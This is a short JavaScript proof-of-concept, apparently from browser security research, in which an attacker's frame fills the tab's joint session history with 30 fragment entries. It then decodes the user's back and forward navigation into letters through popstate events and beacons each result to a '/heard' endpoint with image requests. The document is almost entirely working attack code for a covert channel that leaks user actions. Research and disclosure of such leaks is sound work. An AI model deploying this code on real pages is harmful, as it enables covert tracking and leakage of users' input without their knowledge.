// The attacker's frame adds entries to the tab's joint session history (its own fragment
// changes) as it loads. Back and forward on the tab then move inside this frame, which hears
// each as popstate: the number of steps back before each step forward is a letter (a = 1).
const ENTRIES = 30;
for (let i = 1; i <= ENTRIES; i += 1) history.pushState({ i }, '', `#e${i}`);
let at = ENTRIES;
let backs = 0;
addEventListener('popstate', (event) => {
  const i = event.state?.i ?? 0;
  if (i < at) backs += at - i;
  if (i > at) {
    new Image().src = `/heard?letter=${String.fromCharCode(96 + backs)}&backs=${backs}`;
    backs = 0;
  } else {
    new Image().src = `/heard?at=${i}`;
  }
  at = i;
});
